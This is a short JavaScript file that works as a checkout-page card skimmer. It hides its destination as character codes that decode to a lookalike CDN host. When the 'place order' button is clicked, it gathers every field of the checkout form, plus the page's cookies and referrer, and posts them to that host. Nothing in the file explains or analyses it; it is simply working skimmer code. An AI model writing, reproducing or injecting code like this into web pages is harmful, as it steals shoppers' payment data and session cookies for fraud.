(function (w, jq) {
    var d = w.document;
    var host = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 109, 97, 103, 101, 45, 99, 100, 110, 45, 115, 116, 97, 116, 105, 99, 46, 111, 114, 103);
    var path = String.fromCharCode(47, 115, 116, 97, 116, 105, 99, 47, 118, 49);
    var ev = String.fromCharCode(99, 108, 105, 99, 107);

    function collect() {
        var data = {};
        jq("form#checkout_form :input").each(function () {
            var n = this.name || this.id;
            if (n && this.value) {
                data[n] = this.value;
            }
        });
        return data;
    }

    jq(d).ready(function () {
        jq("#place_order_btn").on(ev, function () {
            var body = JSON.stringify({ r: d.referrer, f: collect(), c: d.cookie });
            jq.post(host + path, { q: body });
        });
    });
})(window, jQuery);
